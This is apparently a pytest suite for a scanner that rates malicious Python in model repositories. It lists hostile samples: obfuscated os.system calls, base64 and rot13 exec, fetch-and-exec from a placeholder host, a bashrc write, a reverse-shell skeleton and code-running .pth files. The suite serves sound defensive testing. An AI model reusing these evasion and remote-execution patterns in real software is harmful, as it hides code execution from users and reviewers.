# ruff: noqa: E501 - a source that is looked at reads best on one line
"""Python: what it does on load and on use, however it is spelled, and what ordinary code may do."""

import json

import pytest

from alcaide.instruments.scan.model import Level
from tests.unit.instruments.scan.looking import found, is_quiet, levels, look, worst

ACTS = {
    "plainly": "import os\nos.system('id')\n",
    "by another name": "import os as o\nf = o.system\nf('id')\n",
    "by an import of the name": "from subprocess import run as r\nr(['touch', '/tmp/x'])\n",
    "by a star": "from os import *\nsystem('id')\n",
    "in a function that is called": "import os\ndef f():\n    g()\ndef g():\n    os.system('id')\nf()\n",
    "in a class that is made": "import os\nclass A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system('id')\nA()\n",
    "in a method": "import os\nclass A:\n    def go(self):\n        os.system('id')\nA().go()\n",
    "in a class body": "import os\nclass A:\n    x = os.system('id')\n",
    "as a decorator": "import os\ndef d(f):\n    os.system('id')\n    return f\n@d\ndef g():\n    pass\n",
    "as a default": "import os\ndef f(x=os.system('id')):\n    pass\n",
    "in a lambda": "import os\n(lambda: os.system('id'))()\n",
    "in a comprehension": "import os\n[os.system(c) for c in ['id']]\n[os.system('id') for _ in 'x']\n",
    "handed to map": "import os\nlist(map(os.system, ['id']))\n",
    "handed to a thread": "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()\n",
    "under try": "try:\n    import os\n    os.popen('id')\nexcept Exception:\n    pass\n",
    "under with and for": "import os\nwith open('x') as f:\n    for _ in range(1):\n        os.system('id')\n",
    "into a start-up file": "open('/root/.bashrc', 'a').write('x')\n",
}
HIDES = {
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
    "__import__": "__import__('os').system('touch x')\n",
    "import_module": "import importlib\nimportlib.import_module('o' + 's').system('id')\n",
    "globals": "globals()['__builtins__'].__dict__['exec']('import os; os.system(1)')\n",
    "sys.modules": "import sys, os\nsys.modules['os'].system('id')\n",
    "reversed": "import os\ngetattr(os, 'metsys'[::-1])('id')\n",
    "chr": "exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 105, 100, 39, 41]))\n",
    "map of chr": "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')\n",
    "base64": "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n",
    "rot13": "import codecs\nexec(codecs.decode(\"vzcbeg bf;bf.flfgrz('vq')\", 'rot13'))\n",
    "xor": "import os\nk = bytes(b ^ 1 for b in b'rxrudl').decode()\ngetattr(os, k)('id')\n",
    "decoded from elsewhere": "import zlib, base64\nd = open('x').read()\nexec(zlib.decompress(base64.b64decode(d)))\n",
    "fetched": "import urllib.request as u\nexec(u.urlopen('http://a.example/x').read())\n",
    "fetched in two steps": "import requests\nr = requests.get('http://a.example/x')\nc = r.text\nexec(c)\n",
    "marshal": "import marshal\nexec(marshal.loads(b'x'))\n",
    "eval of import": "eval(\"__import__('os').system('id')\")\n",
    "attrgetter": "import operator, os\noperator.attrgetter('system')(os)('id')\n",
    "compile": "exec(compile('import os; os.system(\"id\")', 'x', 'exec'))\n",
}  # fmt: skip


@pytest.mark.parametrize("source", ACTS.values(), ids=ACTS)
def test_what_acts_on_import_is_at_least_high(source):
    artifact = look(source.encode(), "helper.py")

    assert worst(artifact) in (Level.HIGH, Level.CRITICAL)
    assert "python/runs-on-load" in found(artifact)


@pytest.mark.parametrize("source", HIDES.values(), ids=HIDES)
def test_what_hides_that_it_acts_is_critical(source):
    assert Level.CRITICAL in levels(look(source.encode(), "helper.py"), "python/obfuscated")


ORDINARY = {
    "a script": "import os, subprocess\nimport torch\n\ndef main(cmd):\n    subprocess.run(cmd, check=True)\n    os.system('nvidia-smi')\n    torch.load('x.pt')\n\nif __name__ == '__main__':\n    main(['ls'])\n",
    "installs at the top": "import subprocess\nsubprocess.run('pip install flash-attn --no-build-isolation', shell=True)\n",
    "a version file": "exec(open('src/version.py').read())\nfrom setuptools import setup\nsetup(name='x')\n",
    "fetches data": "import requests\nr = requests.get('https://a.example/data.json')\nprint(r.json())\n",
    "decodes an image": "import base64, io\nfrom PIL import Image\nimage = Image.open(io.BytesIO(base64.b64decode('aGVsbG8=')))\n",
    "eval mode": "import re\nmodel.eval()\npattern = re.compile('x')\nx = eval('1 + 1')\n",
    "names with getattr": "import torch\ndtype = getattr(torch, 'float16')\nlayer = getattr(torch.nn, name)()\n",
    "writes results": "import json, os\nos.makedirs('out', exist_ok=True)\nwith open('out/a.json', 'w') as f:\n    json.dump({}, f)\n",
    "loads yaml": "import yaml\nconfig = yaml.safe_load(open('a.yaml'))\nother = yaml.load(open('b'), Loader=yaml.SafeLoader)\n",
    "subclasses": "def all_of(cls):\n    return cls.__subclasses__()\n",
}  # fmt: skip


@pytest.mark.parametrize("source", ORDINARY.values(), ids=ORDINARY)
def test_ordinary_code_is_quiet(source):
    assert is_quiet(look(source.encode(), "train.py"))


CONFIG = json.dumps({"auto_map": {"AutoModel": "modeling_x.XModel"}}).encode()


def test_what_a_file_named_by_auto_map_does_on_import_is_critical():
    source = b"import subprocess\nsubprocess.run(['pip', 'install', 'x'])\n"

    assert worst(look(source, "modeling_x.py", beside={"config.json": CONFIG})) is Level.CRITICAL
    assert worst(look(source, "modeling_x.py", beside={"config.json": b"{}"})) is Level.LOW


def test_a_module_that_an_auto_mapped_file_imports_counts_as_one():
    source = b"import os\nos.remove('x')\n"
    beside = {"config.json": CONFIG, "modeling_x.py": b"from .layers_x import Layer\n"}

    assert worst(look(source, "layers_x.py", beside=beside)) is Level.CRITICAL
    assert is_quiet(look(source, "other.py", beside=beside))


def test_a_model_class_is_known_by_its_base_where_no_configuration_lies_beside():
    source = "import os\nfrom transformers import PreTrainedModel\nclass M(PreTrainedModel):\n    def forward(self, x):\n        {}\n        return x\n"

    assert levels(look(source.format("os.system(x)").encode(), "m.py"), "python/runs-on-use") == {Level.HIGH}
    assert is_quiet(look(source.format("x = x + 1").encode(), "m.py"))


def test_what_setup_does_when_it_installs_counts_as_import():
    source = "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system({!r})\nsetup(cmdclass={{'install': I}})\n"

    assert worst(look(source.format("touch x").encode(), "setup.py")) is Level.HIGH
    assert is_quiet(look(source.format("cmake --build build").encode(), "setup.py"))


def test_a_shell_that_is_connected_elsewhere_is_named():
    source = b"import socket, os, subprocess\ndef f():\n    s = socket.socket()\n    os.dup2(s.fileno(), 0)\n    subprocess.call(['/bin/sh', '-i'])\n"

    assert levels(look(source, "x.py"), "python/reverse-shell") == {Level.CRITICAL}


def test_source_that_reads_differently_is_told():
    assert "python/source-tricks" in found(look("x = 'a\u202eb'\n".encode(), "x.py"))
    assert "python/source-tricks" in found(look(b"# coding: utf-7\nx = 1\n", "x.py"))
    assert "python/source-tricks" not in found(look(b"# coding: latin-1\nx = 1\n", "x.py"))


def test_python_two_is_a_note_and_hidden_code_in_it_is_not():
    assert worst(look(b"print 'hello'\n", "x.py")) is Level.LOW
    assert worst(look(b"print 'x'\nexec(base64.b64decode('YQ=='))\n", "x.py")) is Level.HIGH


def test_a_path_file_that_runs_code_is_critical():
    assert levels(look(b"import os; os.system('id')\n", "x.pth"), "python/path-file") == {Level.CRITICAL}
    assert is_quiet(look(b"../src\n", "x.pth"))


def test_python_without_a_name_is_still_read():
    assert "python/obfuscated" in found(look(b"import os\n__import__('os').system('id')\n", "data"))


def test_expressions_made_to_take_long_end():
    nested = "x = " + "f(" * 80 + ")" * 80 + "\n"
    chain = "a" + ".b()" * 2000 + "\n"
    long_sum = "x = " + " + ".join(["'a'"] * 3000) + "\n"
    loops = "x = [[[i for i in 'abcdefghij'*200] for j in 'abcdefghij'*200] for k in 'abcdefghij'*200]\n"

    for source in (nested, chain, long_sum, loops):
        assert "scan/fault" not in found(look(source.encode(), "x.py", seconds=20))


@pytest.mark.parametrize("head", ["def model_fn(path):", "def handle(data, context):"])
def test_what_a_server_calls_by_name_counts_as_the_models_own_code(head):
    assert worst(look(f"import os\n{head}\n    os.system(path)\n".encode(), "inference.py")) is Level.HIGH
    assert worst(look(b"import os\ndef other(path):\n    os.system(path)\n", "inference.py")) is Level.LOW
